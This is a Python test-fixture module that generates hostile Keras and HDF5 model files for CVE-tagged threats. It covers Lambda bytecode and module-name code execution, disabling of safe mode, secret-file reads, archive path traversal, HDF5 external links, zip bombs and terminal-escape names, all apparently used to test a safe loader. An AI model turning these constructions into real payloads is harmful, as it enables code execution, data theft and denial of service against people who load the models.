"""Hostile files, made when they are wanted: one function per trick, named after the row of the threat table it is of.

Each takes a folder and returns the file. What would go wrong leaves a trace in the folder: a program makes `marker`, a
reader that strays shows what is in `secret`.
"""

from __future__ import annotations

import base64
import json
import marshal
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from support.crafted import (
    BIAS,
    KERNEL,
    ONE_DENSE,
    WEIGHTS,
    called,
    dense,
    functional,
    layer,
    members,
    sequential,
    source,
    weights_h5,
    write_h5,
    write_zip,
)

SECRET = b"do-not-show-this"
Recipe = Callable[[Path], Path]
RECIPES: dict[str, list[Recipe]] = {}


def of(row: str) -> Callable[[Recipe], Recipe]:
    """Enter a recipe under its row."""

    def enter(recipe: Recipe) -> Recipe:
        RECIPES.setdefault(row, []).append(recipe)
        return recipe

    return enter


def secret(folder: Path) -> Path:
    path = folder / "secret"
    path.write_bytes(SECRET * 8)
    return path


def marker(folder: Path) -> str:
    return str(folder / "marker")


def bytecode(folder: Path) -> str:
    """A program that makes the marker, as Keras writes a Lambda's."""
    text = f"lambda x: __import__('os').mkdir({marker(folder)!r}) or x"
    code = compile(text, "hostile", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


def lambda_layer(folder: Path, name: str = "trap") -> dict[str, Any]:
    return layer("Lambda", name, function=[bytecode(folder), None, None], function_type="lambda", arguments={})


def lambda_of_keras3(folder: Path) -> dict[str, Any]:
    function = {"class_name": "__lambda__", "config": {"value": bytecode(folder), "defaults": None, "closure": None}}
    return keras3("Lambda", "trap", function=function, arguments={})


def keras3(class_name: str, name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "registered_name": None, **layer(class_name, name, **config)}


def function(module: str | None, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def archive(path: Path, *layers: dict[str, Any], **other: bytes) -> Path:
    """A .keras file of these layers between an input and a Dense layer, which has the weights."""
    return write_zip(path, {**members(sequential(source(), *layers, dense())), **other})


def tensor(name: str) -> dict[str, Any]:
    config = {"shape": [None, 4], "dtype": "float32", "keras_history": [name, 0, 0]}
    return {"class_name": "__keras_tensor__", "config": config}


def with_dead(raw: dict[str, Any], *args: Any) -> dict[str, Any]:
    """A Functional model of Keras 3 in which `raw` is called and leads to nothing."""
    live = {**keras3("Dense", "dense", units=3), "name": "dense"}
    live["inbound_nodes"] = [{"args": [tensor("x")], "kwargs": {}}]
    dead = {**raw, "name": raw["config"].get("name", "dead"), "inbound_nodes": [{"args": [*args], "kwargs": {}}]}
    return functional([{**source(), "name": "x", "inbound_nodes": []}, dead, live], [["x", 0, 0]], [["dense", 0, 0]])


def replaced(folder: Path, put: Callable[[h5py.Group, str], Any]) -> Path:
    """A .h5 file with its bias replaced by what `put(group, name)` makes."""
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        group = file["model_weights/dense/dense"]
        del group["bias:0"]
        put(group, "bias:0")
    return path


# Code in the file.


@of("CVE-2024-3660")
def lambda_at_top_level(folder: Path) -> Path:
    return write_h5(folder / "m.h5", sequential(source(), lambda_layer(folder), dense()))


@of("CVE-2024-3660")
def lambda_in_a_nested_model(folder: Path) -> Path:
    inner = sequential(source("inner_x"), lambda_layer(folder))
    inner["config"]["name"] = "inner"
    return write_h5(folder / "m.h5", sequential(source(), inner, dense()))


@of("CVE-2024-3660")
def lambda_in_a_wrapper(folder: Path) -> Path:
    wrapped = layer("TimeDistributed", "steps", layer=lambda_layer(folder))
    return write_h5(folder / "m.h5", sequential(source("x", (None, 2, 4)), wrapped, dense()))


@of("CVE-2024-3660")
def lambda_that_leads_nowhere(folder: Path) -> Path:
    layers = [called(source()), called(lambda_layer(folder), [["x", 0, 0, {}]]), called(dense(), [["x", 0, 0, {}]])]
    return write_h5(folder / "m.h5", functional(layers, [["x", 0, 0]], [["dense", 0, 0]]))


@of("CVE-2024-3660")
def lambda_as_an_activation(folder: Path) -> Path:
    raw = keras3("Dense", "dense", units=3, activation=lambda_of_keras3(folder)["config"]["function"])
    return write_zip(folder / "m.keras", members(sequential(source(), raw)))


@of("CVE-2025-1550")
def function_of_any_module_in_a_lambda(folder: Path) -> Path:
    raw = keras3("Lambda", "trap", function=function("os", "mkdir"), arguments={"path": marker(folder)})
    return archive(folder / "m.keras", raw)


@of("CVE-2025-1550")
def function_of_any_module_as_an_activation(folder: Path) -> Path:
    raw = keras3("Dense", "dense", units=3, activation=function("os", "mkdir"))
    return write_zip(folder / "m.keras", members(sequential(source(), raw)))


@of("CVE-2025-1550")
def class_of_any_module(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("Popen", "trap", module="subprocess", args=["mkdir", marker(folder)]))


@of("CVE-2025-1550")
def module_behind_a_known_name(folder: Path) -> Path:
    """Keras 2 takes a registered name where the module has none of the class's."""
    raw = {**keras3("Dense", "dense", module="keras.utils", units=3), "registered_name": "get_file"}
    return write_h5(folder / "m.h5", sequential(source(), raw))


@of("CVE-2025-8747")
def downloading_function_of_keras(folder: Path) -> Path:
    config = {"fname": marker(folder), "origin": secret(folder).as_uri()}
    trap = {"module": "keras.utils", "class_name": "get_file", "config": config, "registered_name": None}
    return archive(folder / "m.keras", keras3("Dense", "first", units=4, kernel_initializer=trap))


@of("CVE-2025-8747")
def downloading_function_by_name(folder: Path) -> Path:
    raw = keras3("Lambda", "trap", function=function("keras.utils", "get_file"), arguments={"fname": marker(folder)})
    return archive(folder / "m.keras", raw)


@of("CVE-2025-9906")
def safe_mode_switched_off(folder: Path) -> Path:
    switch = keras3("Lambda", "switch", function=function("keras.config", "enable_unsafe_deserialization"))
    return archive(folder / "m.keras", switch, lambda_of_keras3(folder))


@of("CVE-2025-9906")
def safe_mode_switched_off_by_a_dead_node(folder: Path) -> Path:
    raw = keras3("enable_unsafe_deserialization", "switch", module="keras.config")
    return write_zip(folder / "m.keras", members(with_dead(raw)))


@of("CVE-2025-9905")
def lambda_in_hdf5_of_either_ending(folder: Path) -> Path:
    return write_h5(folder / "m.hdf5", sequential(source(), lambda_layer(folder), dense()))


@of("CVE-2025-9905")
def lambda_in_hdf5_of_keras3(folder: Path) -> Path:
    return write_h5(folder / "m.h5", sequential(source(), lambda_of_keras3(folder), dense()), version="3.5.0")


@of("CVE-2025-49655")
def torch_module(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("TorchModuleWrapper", "trap", module="keras.layers", module_=""))


@of("CVE-2025-12058")
def vocabulary_that_is_a_file(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("StringLookup", "trap", vocabulary=str(secret(folder))))


@of("CVE-2026-1462")
def saved_model_inside(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("TFSMLayer", "trap", filepath=str(folder), call_endpoint="serve"))


@of("TensorFlow's functions")
def function_of_tensorflow_that_writes(folder: Path) -> Path:
    trap = layer("TFOpLambda", "trap", function="io.write_file")
    layers = [
        called(source()),
        called(trap, ["_CONSTANT_VALUE", -1, marker(folder), {"contents": "x"}]),
        called(dense(), [["x", 0, 0, {}]]),
    ]
    return write_h5(folder / "m.h5", functional(layers, [["x", 0, 0]], [["dense", 0, 0]]))


@of("TensorFlow's functions")
def operation_of_tensorflow_that_writes(folder: Path) -> Path:
    node = {"name": "trap", "op": "WriteFile", "input": ["x", "y"], "attr": {}}
    trap = layer("TensorFlowOpLayer", "trap", node_def=node, constants={"0": marker(folder)})
    return write_h5(folder / "m.h5", sequential(source(), trap, dense()))


@of("TensorFlow's functions")
def library_that_is_loaded(folder: Path) -> Path:
    return write_h5(folder / "m.h5", sequential(source(), layer("TFOpLambda", "trap", function="load_op_library")))


@of("dead node")
def dtype_policy_set_by_a_dead_node(folder: Path) -> Path:
    raw = keras3("set_dtype_policy", "trap", module="keras.config")
    return write_zip(folder / "m.keras", members(with_dead(raw, "float16")))


@of("QKeras strings")
def quantizer_that_is_a_program(folder: Path) -> Path:
    raw = layer("QDense", "dense", units=3, kernel_quantizer=f"__import__('os').mkdir({marker(folder)!r})")
    return write_h5(folder / "m.h5", sequential(source(), raw))


@of("QKeras strings")
def quantizer_that_is_another_function(folder: Path) -> Path:
    """QKeras calls whatever its module has under the name, with the arguments in the string."""
    raw = layer("QActivation", "act", activation=f"get_quantizer('{marker(folder)}')")
    return write_h5(folder / "m.h5", sequential(source(), raw, dense()))


@of("QKeras strings")
def quantizer_of_a_layer_that_leads_nowhere(folder: Path) -> Path:
    raw = layer("QDense", "dead", units=3, bias_quantizer="safe_eval('x', 1)")
    layers = [called(source()), called(raw, [["x", 0, 0, {}]]), called(dense(), [["x", 0, 0, {}]])]
    return write_h5(folder / "m.h5", functional(layers, [["x", 0, 0]], [["dense", 0, 0]]))


# Files beside the file.


@of("CVE-2025-12060, CVE-2024-55459")
def member_above_the_archive(folder: Path) -> Path:
    return write_zip(folder / "m.keras", {**members(), "../marker": b"out"})


@of("CVE-2025-12060, CVE-2024-55459")
def member_at_the_root(folder: Path) -> Path:
    return write_zip(folder / "m.keras", {**members(), marker(folder): b"out"})


@of("CVE-2025-12060, CVE-2024-55459")
def member_that_is_a_link(folder: Path) -> Path:
    path = write_zip(folder / "m.keras", members())
    with zipfile.ZipFile(path, "a") as file:
        link = zipfile.ZipInfo("assets/link")
        link.external_attr = 0o120777 << 16
        file.writestr(link, str(secret(folder)))
    return path


@of("CVE-2026-12479")
def layer_named_dots(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("Dropout", "..", rate=0.5))


@of("CVE-2026-12479")
def layer_named_a_path(folder: Path) -> Path:
    return archive(folder / "m.keras", keras3("Dropout", "../../marker", rate=0.5))


@of("CVE-2026-12479")
def asset_above_the_archive(folder: Path) -> Path:
    return write_zip(folder / "m.keras", {**members(), "assets/../../marker": b"out"})


@of("CVE-2026-1669")
def external_storage(folder: Path) -> Path:
    files = [(str(secret(folder)), 0, 12)]
    return replaced(folder, lambda group, name: group.create_dataset(name, (3,), "f4", external=files))


@of("CVE-2026-1669")
def external_storage_that_no_layer_uses(folder: Path) -> Path:
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        file.create_dataset("unused", (12,), "f4", external=[(str(secret(folder)), 0, 48)])
    return path


def elsewhere(folder: Path) -> Path:
    """Another HDF5 file, whose values are the secret."""
    with h5py.File(folder / "other.h5", "w") as file:
        file["data"] = np.frombuffer(SECRET[:12], np.float32)
        file["dense/dense/kernel:0"], file["dense/dense/bias:0"] = KERNEL, file["data"][:]
        file["dense"].attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
        file.attrs["layer_names"] = np.array([b"dense"])
    return folder / "other.h5"


@of("CVE-2026-12480")
def virtual_dataset(folder: Path) -> Path:
    layout = h5py.VirtualLayout((3,), "f4")
    layout[:] = h5py.VirtualSource(str(elsewhere(folder)), "data", (3,))
    return replaced(folder, lambda group, name: group.create_virtual_dataset(name, layout))


@of("CVE-2026-12480")
def virtual_dataset_in_an_archive(folder: Path) -> Path:
    layout = h5py.VirtualLayout((3,), "f4")
    layout[:] = h5py.VirtualSource(str(elsewhere(folder)), "data", (3,))
    inner = folder / "inner.h5"
    inner.write_bytes(weights_h5())
    with h5py.File(inner, "a") as file:
        del file["layers/dense/vars/1"]
        file["layers/dense/vars"].create_virtual_dataset("1", layout)
    return write_zip(folder / "m.keras", {**members(), "model.weights.h5": inner.read_bytes()})


LEVELS = ("model_weights/dense/dense/bias:0", "model_weights/dense/dense", "model_weights/dense", "model_weights")


def _linked(folder: Path, level: str, link: Any) -> Path:
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        file.move(level, "hidden")
        file[level] = link
    return path


def _link_recipes() -> None:
    for level in LEVELS:
        below = level.removeprefix("model_weights").lstrip("/") or "/"

        def external(folder: Path, level: str = level, below: str = below) -> Path:
            return _linked(folder, level, h5py.ExternalLink(str(elsewhere(folder)), below))

        def soft(folder: Path, level: str = level) -> Path:
            return _linked(folder, level, h5py.SoftLink("/hidden"))

        for kind, recipe in (("external", external), ("soft", soft)):
            recipe.__name__ = f"{kind}_link_at_{level.count('/')}_levels"
            of("keras #22899, #22900, #23168")(recipe)


_link_recipes()

# Bombs.


@of("CVE-2026-0897")
def shape_bomb(folder: Path) -> Path:
    return replaced(folder, lambda group, name: group.create_dataset(name, (2**50,), "f4", chunks=(1 << 20,)))


@of("CVE-2026-0897")
def shape_bomb_that_fits_the_configuration(folder: Path) -> Path:
    path = write_h5(folder / "m.h5", sequential(source(), dense(units=2**40)), {"dense": {"dense/bias:0": BIAS}})
    with h5py.File(path, "a") as file:
        group = file["model_weights/dense"]
        group.create_dataset("dense/kernel:0", (4, 2**40), "f4", chunks=(4, 1 << 18), compression="gzip")
        group.attrs["weight_names"] = np.array([b"dense/kernel:0", b"dense/bias:0"])
    return path


@of("CVE-2026-0897")
def many_small_shape_bombs(folder: Path) -> Path:
    """Each would be allowed alone."""
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        for number in range(200):
            file.create_dataset(f"bombs/{number}", (1 << 23,), "f4", chunks=(1 << 20,))
    return path


@of("CVE-2026-0897")
def zeros_that_compress(folder: Path) -> Path:
    chunk = zlib.compress(bytes(4 << 20), 9)

    def put(group: h5py.Group, name: str) -> None:
        data = group.create_dataset(name, (1 << 26,), "f4", chunks=(1 << 20,), compression="gzip")
        for start in range(0, 1 << 26, 1 << 20):
            data.id.write_direct_chunk((start,), chunk)

    return replaced(folder, put)


def bomb(path: Path, name: str, size: int, declared: int) -> Path:
    """An archive whose member `name` expands to `size` zeros and says `declared`."""
    packer, block = zlib.compressobj(9, zlib.DEFLATED, -15), 1 << 20
    zeros = packer.compress(bytes(block)) + packer.flush(zlib.Z_FULL_FLUSH)
    write_zip(path, {**members(), name: zeros * (size // block) + packer.flush()})
    data = bytearray(path.read_bytes())
    for signature, method, length in ((b"PK\x01\x02", 10, 24), (b"PK\x03\x04", 8, 22)):
        found = data.rindex(name.encode()) if length == 24 else data.index(name.encode())
        at = data.rindex(signature, 0, found)
        struct.pack_into("<H", data, at + method, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", data, at + length, declared)
    path.write_bytes(data)
    return path


@of("keras #23010, #23101, #23303")
def zip_bomb_in_the_weights(folder: Path) -> Path:
    return bomb(folder / "m.keras", "model.weights.h5", 1 << 30, 1 << 30)


@of("keras #23010, #23101, #23303")
def zip_bomb_in_the_configuration(folder: Path) -> Path:
    return bomb(folder / "m.keras", "config.json", 1 << 30, 1 << 30)


@of("keras #23010, #23101, #23303")
def zip_bomb_in_the_metadata(folder: Path) -> Path:
    return bomb(folder / "m.keras", "metadata.json", 1 << 30, 1 << 30)


@of("keras #23010, #23101, #23303")
def zip_bomb_that_declares_little(folder: Path) -> Path:
    """zipfile's own `read` expands all of a member before it cuts what is more than the directory declares."""
    return bomb(folder / "m.keras", "metadata.json", 1 << 30, 100)


@of("keras #23010, #23101, #23303")
def zip_bomb_of_a_method_without_limit(folder: Path) -> Path:
    contents = {**members(), "metadata.json": bytes(1 << 20)}
    return write_zip(folder / "m.keras", contents, zipfile.ZIP_BZIP2)


@of("keras #23010, #23101, #23303")
def directory_of_many_members(folder: Path) -> Path:
    """A directory's entry of 50 bytes becomes an object of a thousand."""
    path = write_zip(folder / "m.keras", members())
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    count = 400_000
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 7, 0, 0, 0, 0, 0, 0)
    directory = b"".join(entry + b"%07x" % number for number in range(count))
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count & 0xFFFF, count & 0xFFFF, len(directory), end, 0)
    path.write_bytes(data[:end] + directory + tail)
    return path


@of("amplification")
def constant_of_an_odd_dtype(folder: Path) -> Path:
    constant = {"class_name": "__numpy__", "config": {"value": [1.0], "dtype": "(1000,1000)f4"}}
    raw = keras3("Rescaling", "scale", scale=constant, offset=0.0)
    return archive(folder / "m.keras", raw)


@of("amplification")
def texts_that_are_one_text(folder: Path) -> Path:
    """A list of a hundred thousand names, each a reference to the same long text."""
    path, count, long = folder / "m.h5", 100_000, "x" * (1 << 20)
    with h5py.File(path, "w", libver="latest") as file:
        file.attrs["keras_version"], file.attrs["model_config"] = "2.4.0", json.dumps(ONE_DENSE)
        group = file.create_group("model_weights")
        group.attrs.create("long", long, dtype=h5py.string_dtype())
        group.attrs.create("layer_names", [f"layer{number:08}" for number in range(count)], dtype=h5py.string_dtype())
    data = path.read_bytes()
    at = data.index(long.encode()) - 16  # behind the object's number, its count of references and its length
    heap = data.rindex(b"GCOL", 0, at)
    wanted = struct.pack("<IQI", len(long), heap, struct.unpack_from("<H", data, at)[0])
    short = re.compile(re.escape(struct.pack("<I", len("layer00000000"))) + rb".{12}", re.DOTALL)
    path.write_bytes(short.sub(wanted, data))
    return path


@of("amplification")
def values_without_end(folder: Path) -> Path:
    text = b'{"class_name": "Sequential", "config": [' + b"[]," * 8_000_000 + b"[]]}"
    return write_zip(folder / "m.keras", {**members(), "config.json": text}, zipfile.ZIP_DEFLATED)


@of("amplification")
def groups_that_share_groups(folder: Path) -> Path:
    """Two names for each of forty groups, one in the other: 2^40 paths."""
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        group = file.create_group("deep")
        for _ in range(25):
            inner = group.create_group("a")
            group["b"] = inner
            group = inner
    return path


@of("amplification")
def models_that_share_models(folder: Path) -> Path:
    """Each level is called twice by the one above: 2^30 layer calls."""
    raw = called(layer("Dropout", "d", rate=0.5), [["x", 0, 0, {}]])
    model = functional([called(source()), raw], [["x", 0, 0]], [["d", 0, 0]], "m0")
    for number in range(1, 30):
        once, again = f"m{number - 1}", [[f"m{number - 1}", 0, 0, {}]]
        twice = {**model, "name": once, "inbound_nodes": [[["x", 0, 0, {}]], again]}
        model = functional([called(source()), twice], [["x", 0, 0]], [[once, 1, 0]], f"m{number}")
    return write_h5(folder / "m.h5", model, {})


# Readers that disagree.


@of("reader disagreements")
def configuration_twice(folder: Path) -> Path:
    path = write_zip(folder / "m.keras", members())
    data = path.read_bytes().replace(b"metadata.json", b"config.json\0\0")
    path.write_bytes(data)
    return path


@of("reader disagreements")
def key_twice(folder: Path) -> Path:
    text = json.dumps(ONE_DENSE)
    return write_h5(folder / "m.h5", text.replace('"units": 3', '"units": 3, "units": 4'))


@of("reader disagreements")
def nan_in_the_configuration(folder: Path) -> Path:
    raw = layer("BatchNormalization", "norm", axis=[1], epsilon=float("nan"), center=False, scale=False)
    return write_h5(folder / "m.h5", sequential(source(), raw, dense()))


@of("reader disagreements")
def deep_nesting(folder: Path) -> Path:
    return write_h5(folder / "m.h5", '{"a":' * 100_000 + "1" + "}" * 100_000)


@of("reader disagreements")
def weight_of_another_layer(folder: Path) -> Path:
    path = write_h5(folder / "m.h5")
    with h5py.File(path, "a") as file:
        file["other/kernel:0"] = KERNEL + 1
        file["model_weights/dense"].attrs["weight_names"] = np.array([b"/other/kernel:0", b"dense/bias:0"])
    return path


@of("reader disagreements")
def archive_behind_hdf5(folder: Path) -> Path:
    """refconv would read the one by its first bytes, Keras the other by its name."""
    path = folder / "m.keras"
    outer = write_h5(folder / "outer.h5").read_bytes()
    path.write_bytes(outer + write_zip(folder / "inner.keras", members()).read_bytes())
    return path


@of("reader disagreements")
def hdf5_behind_an_archive(folder: Path) -> Path:
    path = folder / "m.h5"
    start = write_zip(folder / "inner.keras", {**members(), "model.weights.h5": b""}).read_bytes()
    path.write_bytes(start.ljust(4096, b"\0") + write_h5(folder / "outer.h5").read_bytes())
    return path


@of("reader disagreements")
def member_of_two_names(folder: Path) -> Path:
    path = write_zip(folder / "m.keras", members())
    data = bytearray(path.read_bytes())
    at = data.index(b"model.weights.h5")
    data[at : at + 5] = b"other"
    path.write_bytes(data)
    return path


# Malformed.


@of("malformed")
def truncated_archive(folder: Path) -> Path:
    path = write_zip(folder / "m.keras", members())
    path.write_bytes(path.read_bytes()[:-1])
    return path


@of("malformed")
def truncated_hdf5(folder: Path) -> Path:
    path = write_h5(folder / "m.h5")
    path.write_bytes(path.read_bytes()[:-1])
    return path


@of("malformed")
def flipped_weight(folder: Path) -> Path:
    path = write_zip(folder / "m.keras", members())
    data = bytearray(path.read_bytes())
    data[data.index(KERNEL.tobytes()) + 2] ^= 1
    path.write_bytes(data)
    return path


@of("malformed")
def heap_without_end(folder: Path) -> Path:
    """libhdf5 goes on by the size of each object in a heap: a free one of size 0 is where it stays."""
    path = write_h5(folder / "m.h5")
    data = bytearray(path.read_bytes())
    at = data.index(b"GCOL") + 16
    while (number := struct.unpack_from("<H", data, at)[0]) != 0:
        at += 16 + -(-struct.unpack_from("<Q", data, at + 8)[0] // 8) * 8
    assert number == 0
    struct.pack_into("<Q", data, at + 8, 0)
    path.write_bytes(data)
    return path


@of("malformed")
def input_of_no_size(folder: Path) -> Path:
    weights = {"dense": {"dense/kernel:0": np.zeros((0, 3), "f4"), "dense/bias:0": BIAS}}
    return write_h5(folder / "m.h5", sequential(source("x", (None, 0)), dense()), weights)


@of("malformed")
def layer_of_no_units(folder: Path) -> Path:
    weights = {"dense": {"dense/kernel:0": np.zeros((4, 0), "f4"), "dense/bias:0": np.zeros(0, "f4")}}
    return write_h5(folder / "m.h5", sequential(source(), dense(units=0)), weights)


def convolution(folder: Path, **config: Any) -> Path:
    given = {"filters": 2, "kernel_size": [3, 3], "strides": [1, 1], "use_bias": False, **config}
    kernel = np.zeros((*given["kernel_size"], 1, 2), "f4")
    model = sequential(source("x", (None, 8, 8, 1)), layer("Conv2D", "conv", **given))
    return write_h5(folder / "m.h5", model, {"conv": {"conv/kernel:0": kernel}})


@of("malformed")
def negative_strides(folder: Path) -> Path:
    return convolution(folder, strides=[-1, 1])


@of("malformed")
def kernel_of_no_size(folder: Path) -> Path:
    return convolution(folder, kernel_size=[0, 3])


@of("malformed")
def dilation_of_zero(folder: Path) -> Path:
    return convolution(folder, dilation_rate=[0, 1])


@of("malformed")
def weights_of_another_shape(folder: Path) -> Path:
    return write_h5(folder / "m.h5", weights={"dense": {"dense/kernel:0": KERNEL.T, "dense/bias:0": BIAS}})


@of("malformed")
def infinity_for_a_size(folder: Path) -> Path:
    return write_h5(folder / "m.h5", json.dumps(ONE_DENSE).replace('"units": 3', '"units": Infinity'))


@of("malformed")
def layer_whose_name_steers_a_terminal(folder: Path) -> Path:
    name = "\x1b[2J\x1b]0;owned\x07\u202edense"
    weights = {"dense": {"dense/kernel:0": KERNEL.T, "dense/bias:0": BIAS}}
    return write_h5(folder / "m.h5", sequential(source(), dense(name)), weights)


def harmless(folder: Path) -> Path:
    """What all of these are variations of: it is accepted."""
    return write_h5(folder / "m.h5", ONE_DENSE, WEIGHTS)
